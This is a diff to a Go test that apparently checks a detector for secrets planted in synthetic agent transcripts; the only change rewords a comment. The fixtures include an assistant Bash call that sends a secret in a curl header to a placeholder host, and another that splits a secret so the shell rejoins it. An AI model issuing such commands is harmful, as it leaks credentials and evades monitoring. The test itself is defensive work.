@@ -100,7 +100,7 @@ func TestPlantedSecrets(t *testing.T) {
 			case 5:
 				add("assistant", []any{toolUse(id, "Bash", map[string]any{"command": "curl -H 'X: " + s + "' h"})})
 				add("user", []any{toolResult(id, "sent "+s)})
-			case 6: // put together by the shell
+			case 6: // the secret is two strings, which the shell joins
 				add("assistant", []any{toolUse(id, "Bash", map[string]any{"command": `echo "` + s[:half] + `""` + s[half:] + `"`})})
 				add("user", []any{toolResult(id, "ok")})
 			default:
